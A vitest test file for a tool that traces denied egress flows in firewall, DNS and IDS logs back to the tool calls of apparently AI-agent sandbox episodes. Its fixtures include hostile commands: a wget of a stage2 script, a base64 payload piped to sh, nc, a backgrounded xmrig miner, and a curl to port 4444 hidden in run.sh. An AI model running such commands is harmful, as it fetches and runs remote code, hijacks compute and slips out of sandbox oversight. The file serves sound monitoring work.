import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { investigate } from '../../src/pipeline.ts';

const folder = mkdtempSync(join(tmpdir(), 'facts-'));
afterAll(() => rmSync(folder, { recursive: true }));

async function run(name: string, files: Readonly<Record<string, readonly object[] | string>>): Promise<Report> {
  for (const [file, content] of Object.entries(files)) {
    const path = join(folder, name, file);
    mkdirSync(dirname(path), { recursive: true });
    const text = typeof content === 'string' ? content : content.map((row) => JSON.stringify(row)).join('\n');
    writeFileSync(path, `${text}\n`);
  }
  return investigate({ paths: [join(folder, name)], cwd: folder, year: 2026 });
}

const lease = (id: string, episode: string) => ({
  sandbox_id: id,
  server: 'node-1',
  ip: '10.70.0.13',
  episode_id: episode,
  start: '2026-11-23T17:00:00.000Z',
  end: '2026-11-23T17:05:00.000Z',
});
const call = (id: string, sandbox: string, episode: string, command: string) => ({
  episode_id: episode,
  sandbox_id: sandbox,
  tool: 'bash',
  tool_call_id: id,
  command,
  start: '2026-11-23T17:01:00.000Z',
  end: '2026-11-23T17:01:05.000Z',
});

it('takes the pod that the policy log names, where address, command and time fit two sandboxes', async () => {
  const command = 'curl -m 5 http://203.0.113.9/x';
  const report = await run('pod', {
    'leases.jsonl': [lease('sandbox-7', 'ep-a'), lease('sandbox-8', 'ep-b')],
    'tool_calls.jsonl': [call('call_a1', 'sandbox-7', 'ep-a', command), call('call_b1', 'sandbox-8', 'ep-b', command)],
    'node-1-np.log':
      '2026/11/23 17:01:00.400000 AntreaPolicyEgressRule AntreaNetworkPolicy:rollouts/deny DropWorld Egress Drop 14490 rollouts/sandbox-8 10.70.0.13 48155 203.0.113.9 80 TCP 60 egress-label',
  });
  const [one] = report.attributions;
  expect(one?.verdict).toBe('likely');
  expect(one?.episode?.id).toBe('ep-b');
  expect(one?.evidence.map(({ code }) => code)).toContain('explicit-id');
});

it('says which logged answer gave the destination the name that the call names', async () => {
  const report = await run('dns', {
    'leases.jsonl': [{ ...lease('sandbox-7', 'ep-a'), ip: '10.66.1.2' }],
    'tool_calls.jsonl': [call('call_a1', 'sandbox-7', 'ep-a', 'wget http://relay.cdn-sync.example/stage2.sh')],
    'dnsmasq.log': [
      'Nov 23 17:01:00 dnsmasq[24364]: 6 10.66.1.2/54680 query[A] relay.cdn-sync.example from 10.66.1.2',
      'Nov 23 17:01:00 dnsmasq[24364]: 6 10.66.1.2/54680 reply relay.cdn-sync.example is 203.0.113.77',
    ].join('\n'),
    'fw-kernel.log':
      '2026-11-23T17:01:01,400000+00:00 FW-EGRESS-DENY IN=inbr OUT=outbr SRC=10.66.1.2 DST=203.0.113.77 LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=7 DF PROTO=TCP SPT=40398 DPT=80 WINDOW=64240 RES=0x00 SYN URGP=0 ',
  });
  const [one] = report.attributions;
  expect(one?.episode?.id).toBe('ep-a');
  const answer = one?.evidence.find(({ code }) => code === 'dns-answer');
  expect(answer?.refs[0]).toMatchObject({ line: 2 });
});

const encoded = Buffer.from('./relay 203.0.113.9:8081').toString('base64');

it.each([
  ['the port that the call names', './relay 203.0.113.9:8081', '203.0.113.9:8081', 'likely'],
  ['another port', './relay 203.0.113.9:8081', '203.0.113.9:22', 'ambiguous'],
  ['another port than the decoded one', `echo ${encoded} | base64 -d | sh`, '203.0.113.9:22', 'ambiguous'],
  ['another port than the argument behind it', 'nc 203.0.113.9 8081', '203.0.113.9:22', 'ambiguous'],
  ['the port of its scheme', 'curl http://203.0.113.9/x', '203.0.113.9:80', 'likely'],
  ['another port than that of its scheme', 'curl http://203.0.113.9/x', '203.0.113.9:22', 'ambiguous'],
  ['the port behind its name', './relay relay.example:8081', '203.0.113.9:8081', 'likely'],
  ['another port than that behind its name', './relay relay.example:8081', '203.0.113.9:22', 'ambiguous'],
])('weighs an address that a call names with a port, of a flow to %s', async (_, command, to, verdict) => {
  const report = await run(`port ${to} ${command.length}`, {
    'dnsmasq.log': [
      'Nov 23 17:01:00 dnsmasq[9]: 1 10.66.1.2/36560 query[A] relay.example from 10.66.1.2',
      'Nov 23 17:01:00 dnsmasq[9]: 1 10.66.1.2/36560 reply relay.example is 203.0.113.9',
    ].join('\n'),
    'leases.jsonl': [{ ...lease('sandbox-7', 'ep-a'), ip: '10.66.1.2' }],
    'tool_calls.jsonl': [call('call_a1', 'sandbox-7', 'ep-a', `nohup ${command} >/dev/null 2>&1 &`)],
    'fast.log': `11/23/2026-17:01:30.000000  [**] [1:9000006:1] POLICY blocked host [**] [Classification: Policy] [Priority: 1] {TCP} 10.66.1.2:40001 -> ${to}`,
  });
  expect(report.attributions.map((one) => one.verdict)).toEqual([verdict]);
});

it('takes no call for one of the kind of a flow to another port than it names', async () => {
  const verdictOf = async (port: number) => {
    const report = await run(`kind ${port}`, {
      'leases.jsonl': [{ ...lease('sandbox-7', 'ep-a'), ip: '10.66.1.2' }],
      'tool_calls.jsonl': [call('call_a1', 'sandbox-7', 'ep-a', 'curl -m 3 http://203.0.113.9:8080/x')],
      'fw-kernel.log': `2026-11-23T17:01:01,400000+00:00 FW-EGRESS-DENY IN=inbr OUT=outbr SRC=10.66.1.2 DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=7 DF PROTO=TCP SPT=40398 DPT=${port} WINDOW=64240 RES=0x00 SYN URGP=0 `,
    });
    return report.attributions[0]?.verdict;
  };
  expect([await verdictOf(8080), await verdictOf(22)]).toEqual(['likely', 'ambiguous']);
});

it('what a background call left behind explains no flows that begin again after a long pause', async () => {
  const dropped = (second: number): string => {
    const at = new Date(Date.parse('2026-11-23T17:01:00.000Z') + second * 1000).toISOString();
    return `${at} edge-fw kernel: [1.0] FW-EGRESS-DENY IN=inbr OUT=outbr SRC=10.66.1.2 DST=203.0.113.77 LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=${second + 7} DF PROTO=TCP SPT=${40_000 + second} DPT=3333 WINDOW=64240 RES=0x00 SYN URGP=0 `;
  };
  const report = await run('pause', {
    'leases.jsonl': [{ ...lease('sandbox-7', 'ep-a'), ip: '10.66.1.2' }],
    'tool_calls.jsonl': [call('call_a1', 'sandbox-7', 'ep-a', 'nohup ./xmrig -o 203.0.113.77:3333 >/dev/null 2>&1 &')],
    'fw-kernel.log': [2, 12, 22, 32, 200, 210].map(dropped).join('\n'),
  });
  const verdicts = report.attributions.map(({ verdict }) => verdict);
  expect(verdicts).toEqual(['likely', 'likely', 'likely', 'likely', 'ambiguous', 'ambiguous']);
  const says = report.attributions.at(-1)?.evidence.map((one) => one.says);
  expect(says).toContainEqual(expect.stringMatching(/long pause/));
});

it('counts the port of an address in a file that the call uses as it counts one in its own arguments', async () => {
  const before = { start: '2026-11-23T17:00:50.000Z', end: '2026-11-23T17:00:51.000Z' };
  const report = await run('port', {
    'leases.jsonl': [{ ...lease('sandbox-7', 'ep-a'), ip: '10.66.1.2' }],
    'tool_calls.jsonl': [
      { ...call('call_a0', 'sandbox-7', 'ep-a', 'echo curl 203.0.113.77:4444 > run.sh'), ...before },
      call('call_a1', 'sandbox-7', 'ep-a', 'bash run.sh'),
    ],
    'fw-kernel.log':
      '2026-11-23T17:01:01,400000+00:00 FW-EGRESS-DENY IN=inbr OUT=outbr SRC=10.66.1.2 DST=203.0.113.77 LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=7 DF PROTO=TCP SPT=40398 DPT=4444 WINDOW=64240 RES=0x00 SYN URGP=0 ',
  });
  const [one] = report.attributions;
  expect(one?.toolCall?.id).toBe('call_a1');
  expect(one?.evidence.map(({ says }) => says)).toContain('port 4444 stands there as well');
});

it.each([
  ['evenly', [-35, -25, -15, -5, 5, 15], 'ambiguous'],
  ['at no pace', [-35, -29, -15, -9, 5, 19], 'likely'],
  ['since it began', [1, 11, 21, 31, 41, 51], 'likely'],
])(
  'what a background call left behind explains no flow of those that went on before it %s',
  async (name, seconds, verdict) => {
    const dropped = (second: number): string => {
      const at = new Date(Date.parse('2026-11-23T17:01:00.000Z') + second * 1000).toISOString();
      return `${at} edge-fw kernel: [1.0] FW-EGRESS-DENY IN=inbr OUT=outbr SRC=10.66.1.2 DST=203.0.113.77 LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=${second + 99} DF PROTO=TCP SPT=${40_000 + second} DPT=3333 WINDOW=64240 RES=0x00 SYN URGP=0 `;
    };
    const report = await run(name, {
      'leases.jsonl': [{ ...lease('sandbox-7', 'ep-a'), ip: '10.66.1.2' }],
      'tool_calls.jsonl': [
        call('call_a1', 'sandbox-7', 'ep-a', 'nohup ./xmrig -o 203.0.113.77:3333 >/dev/null 2>&1 &'),
      ],
      'fw-kernel.log': seconds.map(dropped).join('\n'),
    });
    expect(report.attributions.at(-1)?.verdict).toBe(verdict);
  },
);
